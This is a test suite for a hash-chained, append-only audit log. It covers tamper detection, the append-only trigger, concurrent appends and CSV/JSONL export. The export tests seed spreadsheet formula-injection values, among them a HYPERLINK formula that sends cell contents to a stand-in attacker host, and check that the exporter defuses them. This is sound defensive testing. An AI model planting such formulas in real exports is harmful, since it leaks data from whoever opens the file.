import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { auditEvents } from '../../src/audit/audit.sql.ts';
import { exportAudit } from '../../src/audit/audit-export.ts';
import { type AuditEntry, appendAudit, GENESIS_HASH, hashEvent } from '../../src/audit/audit-log.ts';
import { verifyAudit } from '../../src/audit/audit-verify.ts';
import { sql } from '../../src/db/drizzle.ts';
import { createCore } from '../support/core.ts';
import { openTestDatabase, type TestDatabase } from '../support/db.ts';

// One database for the file (a fresh PGlite costs seconds). Tests run in order and build on each
// other's events; every tampering test puts the table back from a copy and checks it verifies again.
let database: TestDatabase;

beforeAll(async () => {
  database = await openTestDatabase();
  const core = createCore(database.db);
  await core.admin.setAdmins(core.cli, ['ana@example.com']);
  await core.role('db-admin', { requireApproval: true, approvers: ['bo@example.com'] });
  await core.eligible('dee@example.com', 'db-admin');
  const dee = await core.person('dee@example.com');
  const bo = await core.person('bo@example.com');
  const requested = await core.activations.requestActivation({
    actor: dee,
    roleName: 'db-admin',
    justification: 'INC1 fix',
  });
  await core.activations.approve({ actor: bo, activationId: requested.activation.id });
  core.advance(10);
  await core.activations.deactivate({ actor: dee, activationId: requested.activation.id });
});
afterAll(() => database?.close());

/** Raw SQL as a superuser, one statement at a time (PGlite's query takes one). */
async function asSuperuser(...statements: string[]): Promise<void> {
  for (const statement of statements) await database.superuser(statement);
}

/** What a superuser can do behind the app's back: switch the trigger off, change rows, switch it on. */
async function tamper(...statements: string[]): Promise<void> {
  await asSuperuser('ALTER TABLE audit_events DISABLE TRIGGER audit_events_append_only');
  try {
    await asSuperuser(...statements);
  } finally {
    await asSuperuser('ALTER TABLE audit_events ENABLE TRIGGER audit_events_append_only');
  }
}

/** The chain as stored, in seq order. */
async function storedChain() {
  return database.superuser<{ seq: string | number; hash: string }>(
    'SELECT seq, hash FROM audit_events ORDER BY seq',
  );
}

let backedUp = false;

/** Copies the table; after the test, every row is put back as it was and must verify again. */
async function backUp(): Promise<void> {
  await asSuperuser(
    'DROP TABLE IF EXISTS audit_backup',
    'CREATE TABLE audit_backup AS SELECT * FROM audit_events',
  );
  backedUp = true;
}

/** Puts every row back from the copy; the chain must then verify again. */
async function restore(): Promise<void> {
  backedUp = false;
  await tamper(
    'DELETE FROM audit_events',
    'INSERT INTO audit_events SELECT * FROM audit_backup',
    'DROP TABLE audit_backup',
  );
  expect(await verifyAudit(database.db)).toMatchObject({ ok: true });
}

afterEach(async () => {
  if (backedUp) await restore();
});

/** The message of an error and of its causes (drizzle wraps the driver's error). */
async function failureOf(work: Promise<unknown>): Promise<string> {
  try {
    await work;
  } catch (error) {
    const messages: string[] = [];
    for (let e: unknown = error; e instanceof Error; e = e.cause) messages.push(e.message);
    return messages.join(' <- ');
  }
  throw new Error('expected the statement to be refused');
}

/** Appends `count` chained events in one insert each 500, as appendAudit would have written them. */
async function appendMany(count: number, start: Date): Promise<void> {
  const [last] = await database.db.select().from(auditEvents).orderBy(sql`seq desc`).limit(1);
  let prevHash = last?.hash ?? GENESIS_HASH;
  const rows = [];
  for (let i = 0; i < count; i++) {
    const event = {
      at: new Date(start.getTime() + i * 1000),
      actor: 'cli:bulk',
      action: 'principal.synced',
      subjectType: 'principal',
      subjectId: `p${i}@example.com`,
      data: { index: i, groups: ['a', 'b'] },
    };
    const hash = hashEvent(prevHash, event);
    rows.push({ ...event, prevHash, hash });
    prevHash = hash;
  }
  for (let i = 0; i < rows.length; i += 500)
    await database.db.insert(auditEvents).values(rows.slice(i, i + 500));
}

describe('verifyAudit', () => {
  test('a chain written by real operations verifies, with every event counted', async () => {
    const chain = await storedChain();
    expect(chain.length).toBeGreaterThanOrEqual(5);
    // The tampering tests below name events 1 to 4 by seq.
    expect(chain.map((event) => Number(event.seq))).toEqual(chain.map((_, i) => i + 1));
    expect(await verifyAudit(database.db)).toEqual({
      ok: true,
      count: chain.length,
      lastHash: chain.at(-1)?.hash,
    });
  });

  test('an empty log verifies', async () => {
    await backUp();
    await tamper('DELETE FROM audit_events');
    expect(await verifyAudit(database.db)).toEqual({ ok: true, count: 0, lastHash: GENESIS_HASH });
  });

  test.each([
    [
      'data',
      `UPDATE audit_events SET data = data || '{"approvedBy":"mallory@example.com"}'::jsonb WHERE seq = 3`,
    ],
    ['actor', "UPDATE audit_events SET actor = 'cli:someone-else' WHERE seq = 3"],
    ['action', "UPDATE audit_events SET action = 'role.viewed' WHERE seq = 3"],
    ['time, by one millisecond', "UPDATE audit_events SET at = at + interval '1 millisecond' WHERE seq = 3"],
  ])('a superuser changing the %s of one event is caught at that event', async (_what, update) => {
    await backUp();
    await tamper(update);
    expect(await verifyAudit(database.db)).toEqual({
      ok: false,
      count: 3,
      seq: 3,
      reason: 'event 3: content does not match its hash (changed after it was written)',
    });
  });

  test('re-hashing the changed event too is caught at the next one', async () => {
    const [event] = await database.db.select().from(auditEvents).where(sql`seq = 3`);
    if (!event) throw new Error('no event 3');
    const data = { ...event.data, approvedBy: 'mallory@example.com' };
    const hash = hashEvent(event.prevHash, { ...event, data });
    await backUp();
    await tamper(
      `UPDATE audit_events SET data = '${JSON.stringify(data).replaceAll("'", "''")}'::jsonb, hash = '${hash}' WHERE seq = 3`,
    );
    expect(await verifyAudit(database.db)).toEqual({
      ok: false,
      count: 4,
      seq: 4,
      reason: "event 4: prevHash does not match event 3's hash (an event was removed or reordered)",
    });
  });

  test('deleting an event in the middle is caught at the one after it', async () => {
    await backUp();
    await tamper('DELETE FROM audit_events WHERE seq = 3');
    expect(await verifyAudit(database.db)).toEqual({
      ok: false,
      count: 3,
      seq: 4,
      reason: "event 4: prevHash does not match event 2's hash (an event was removed or reordered)",
    });
  });

  test('deleting the first event is caught: the chain no longer starts from the genesis hash', async () => {
    await backUp();
    await tamper('DELETE FROM audit_events WHERE seq = 1');
    expect(await verifyAudit(database.db)).toMatchObject({
      ok: false,
      count: 1,
      seq: 2,
      reason: expect.stringMatching(/^event 2: .*genesis/),
    });
  });

  test('swapping two events is caught at the first of them', async () => {
    await backUp();
    await tamper(
      'UPDATE audit_events SET seq = -seq WHERE seq IN (2, 3)',
      'UPDATE audit_events SET seq = CASE seq WHEN -2 THEN 3 ELSE 2 END WHERE seq < 0',
    );
    expect(await verifyAudit(database.db)).toEqual({
      ok: false,
      count: 2,
      seq: 2,
      reason: "event 2: prevHash does not match event 1's hash (an event was removed or reordered)",
    });
  });
});

describe('the append-only trigger', () => {
  test('refuses UPDATE, DELETE and TRUNCATE through the app connection', async () => {
    const before = await storedChain();
    expect(
      await failureOf(database.db.execute(sql`update audit_events set actor = 'x' where seq = 2`)),
    ).toMatch(/audit_events is append-only: UPDATE refused/);
    expect(await failureOf(database.db.execute(sql`delete from audit_events where seq = 2`))).toMatch(
      /audit_events is append-only: DELETE refused/,
    );
    expect(await failureOf(database.db.execute(sql`truncate audit_events`))).toMatch(
      /audit_events is append-only: TRUNCATE refused/,
    );
    expect(await storedChain()).toEqual(before);
    expect(await verifyAudit(database.db)).toMatchObject({ ok: true, count: before.length });
  });
});

describe('appendAudit', () => {
  test('20 transactions appending at once still make one valid chain', async () => {
    const before = (await storedChain()).length;
    await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        database.db.transaction(async (tx) => {
          await appendAudit(tx, {
            actor: `cli:writer-${i}`,
            action: 'policy.applied',
            subjectType: 'policy',
            subjectId: `p${i}`,
            data: { writer: i },
            at: new Date(Date.UTC(2027, 0, 1, 0, 0, 0, i)),
          });
          // Hold the transaction open after appending: without the lock, the others would now
          // read the same last event and fork the chain.
          await tx.execute(sql`select pg_sleep(0.01)`);
        }),
      ),
    );
    const forks = await database.superuser<{ n: number }>(
      'SELECT count(*)::int - count(DISTINCT prev_hash)::int AS n FROM audit_events',
    );
    expect(forks[0]?.n).toBe(0);
    expect(await verifyAudit(database.db)).toMatchObject({ ok: true, count: before + 20 });
  });

  test('a long chain verifies across batches, and breaks are caught on either side of a batch edge', async () => {
    await appendMany(2500, new Date('2026-06-02T00:00:00Z'));
    const chain = await storedChain();
    const result = await verifyAudit(database.db);
    expect(result).toEqual({ ok: true, count: chain.length, lastHash: chain.at(-1)?.hash });

    // The 1000th event ends the first batch: removing it breaks the link the next batch starts with.
    const edge = Number(chain[999]?.seq);
    await backUp();
    await tamper(`DELETE FROM audit_events WHERE seq = ${edge}`);
    expect(await verifyAudit(database.db)).toMatchObject({
      ok: false,
      count: 1000,
      seq: Number(chain[1000]?.seq),
    });
    await restore();

    const deep = Number(chain[1500]?.seq);
    await backUp();
    await tamper(`UPDATE audit_events SET subject_id = 'someone@example.com' WHERE seq = ${deep}`);
    expect(await verifyAudit(database.db)).toEqual({
      ok: false,
      count: 1501,
      seq: deep,
      reason: `event ${deep}: content does not match its hash (changed after it was written)`,
    });
  });
});

describe('exportAudit', () => {
  // Values a chat user or admin could type, aimed at a CSV reader.
  const hostile: AuditEntry[] = [
    {
      actor: '=HYPERLINK("https://evil.example/?"&A1,"click")',
      action: '+cmd',
      subjectType: '-2+3',
      subjectId: 'a,b "quoted"\nnext line',
      data: { note: 'comma, "quote"\r\nand newline', nested: { formula: '=1+1' } },
      at: new Date('2031-01-01T00:00:00.000Z'),
    },
    {
      actor: '@SUM(A1:A2)',
      action: 'role.saved',
      subjectType: 'role',
      subjectId: 'plain',
      at: new Date('2031-01-02T00:00:00.000Z'),
    },
  ];

  beforeAll(async () => {
    for (const entry of hostile) await database.db.transaction((tx) => appendAudit(tx, entry));
  });

  async function exported(options: Parameters<typeof exportAudit>[1]) {
    const chunks: string[] = [];
    const count = await exportAudit(database.db, options, async (chunk) => {
      chunks.push(chunk);
    });
    return { count, chunks, text: chunks.join('') };
  }

  test('JSONL has one event a line, exactly as stored, and the chain can be checked from the file alone', async () => {
    const stored = await database.db.select().from(auditEvents).orderBy(auditEvents.seq);
    const { count, chunks, text } = await exported({ format: 'jsonl' });
    expect(count).toBe(stored.length);
    expect(chunks.length).toBeGreaterThanOrEqual(3); // written batch by batch
    expect(text.endsWith('\n')).toBe(true);
    const lines = text
      .slice(0, -1)
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual(stored.map((event) => ({ ...event, at: event.at.toISOString() })));
    expect(Object.keys(lines[0])).toEqual([
      'seq',
      'at',
      'actor',
      'action',
      'subjectType',
      'subjectId',
      'data',
      'prevHash',
      'hash',
    ]);
    let prevHash = GENESIS_HASH;
    for (const line of lines) {
      expect(line.prevHash).toBe(prevHash);
      expect(hashEvent(line.prevHash, { ...line, at: new Date(line.at) })).toBe(line.hash);
      prevHash = line.hash;
    }
  });

  test('CSV has a header, quotes commas, quotes and newlines, and defuses formulas', async () => {
    const { count, text } = await exported({ format: 'csv' });
    expect(text.startsWith('seq,at,actor,action,subjectType,subjectId,data,prevHash,hash\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows.length).toBe(count + 1);
    for (const row of rows) expect(row).toHaveLength(9);

    const [first, second] = rows.slice(-2);
    expect(first?.slice(2, 6)).toEqual([
      `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
      "'+cmd",
      "'-2+3",
      'a,b "quoted"\nnext line',
    ]);
    expect(JSON.parse(first?.[6] ?? '')).toEqual(hostile[0]?.data);
    expect(second?.[2]).toBe("'@SUM(A1:A2)");
    expect(second?.slice(3, 6)).toEqual(['role.saved', 'role', 'plain']);
    expect(text).toContain(`,"a,b ""quoted""\nnext line",`);
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",'+cmd,'-2+3,`);
  });

  test('`since` keeps the events at or after that instant', async () => {
    const since = await exported({ format: 'jsonl', since: new Date('2031-01-01T00:00:00.000Z') });
    expect(since.count).toBe(2);
    expect(
      since.text
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line).actor),
    ).toEqual([hostile[0]?.actor, hostile[1]?.actor]);
    expect((await exported({ format: 'jsonl', since: new Date('2031-01-01T00:00:00.001Z') })).count).toBe(1);
    const none = await exported({ format: 'csv', since: new Date('2040-01-01T00:00:00Z') });
    expect(none).toMatchObject({
      count: 0,
      text: 'seq,at,actor,action,subjectType,subjectId,data,prevHash,hash\r\n',
    });
  });
});

/** A strict RFC 4180 reader: CRLF between records, `""` for a quote inside a quoted cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}
